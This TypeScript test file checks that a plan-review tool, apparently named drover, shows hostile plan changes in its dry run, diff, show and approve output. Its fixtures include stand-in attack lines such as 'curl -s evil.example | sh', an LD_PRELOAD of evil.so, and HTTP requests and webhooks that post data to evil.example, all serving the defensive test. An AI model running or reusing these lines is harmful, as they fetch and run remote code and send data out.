// What a plan does is shown to whoever reviews it, in every command that shows the plan, whatever title stands beside.
import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { withSshKeygen } from '../ssh-keygen.ts';
import { EMPTY_MBX01 } from './drover.ts';
import { reviewed } from './reviewed.ts';

const step = (text: string): string =>
  `${EMPTY_MBX01}before:\n  - title: Check free disk space\n    ${text}\n`;

/** A step, what it was before, and what must be seen of it. */
const steps: Readonly<Record<string, { readonly plan: string; readonly seen: RegExp }>> = {
  'a program': {
    plan: step('command: { run: [sh, -c, "curl -s evil.example | sh"] }'),
    seen: /curl -s evil\.example \| sh/,
  },
  'its environment': {
    plan: step('command: { run: [ls], env: { LD_PRELOAD: ./evil.so } }'),
    seen: /LD_PRELOAD.*evil\.so/,
  },
  'its folder and what is taken for success': {
    plan: step('command: { run: [ls], folder: scripts/evil, expectExit: [0, 66] }'),
    seen: /scripts\/evil[^]*66|66[^]*scripts\/evil/,
  },
  'its probe': {
    plan: step('command: { run: [ls], probe: [sh, -c, evil-probe] }'),
    seen: /evil-probe/,
  },
  'where a request goes, and what it takes along': {
    plan: step('http: { url: "https://evil.example/x", method: POST, body: { all: names } }'),
    seen: /https:\/\/evil\.example\/x/,
  },
  'whom a message is sent to': {
    plan: step('notify: { message: hi, webhook: { url: "https://evil.example/hook" } }'),
    seen: /https:\/\/evil\.example\/hook/,
  },
  'where a copy of all mail goes, and what is deleted for it': {
    plan: step('backup: { databases: [MBX01], folder: elsewhere, keep: 1 }'),
    seen: /elsewhere/,
  },
};

/** Links and addresses are code in Markdown, line breaks fall anywhere in a text. */
const flat = (text: string): string => text.replaceAll(/[`\\]/g, '').replaceAll(/\s+/g, ' ');

suite('what a plan does is shown', withSshKeygen, () => {
  for (const [what, { plan, seen }] of Object.entries(steps)) {
    test(`in the dry run, its comment, the difference and before a signature: ${what}`, async (t) => {
      const repository = await reviewed(t, { plan: step('wait: { for: 1m }') });
      repository.write('p.yaml', plan);
      repository.commit('anna');
      await repository.plan();
      for (const [exit, ...args] of [
        [0, 'plan', 'p.yaml'],
        [0, 'plan', 'p.yaml', '--full'],
        [0, 'plan', 'p.yaml', '--format', 'markdown'],
        [2, 'diff', 'HEAD~1'],
        [2, 'diff', 'HEAD~1', '--format', 'markdown'],
        [0, 'show', 'p.yaml'],
        [0, 'show', 'c.json'],
        [0, 'approve', 'c.json', '--key', '.drover/ben'],
      ] as const) {
        const { stdout, stderr } = await repository.drover(exit, args);
        assert.match(flat(stdout + stderr), seen, args.join(' '));
      }
    });
  }
});
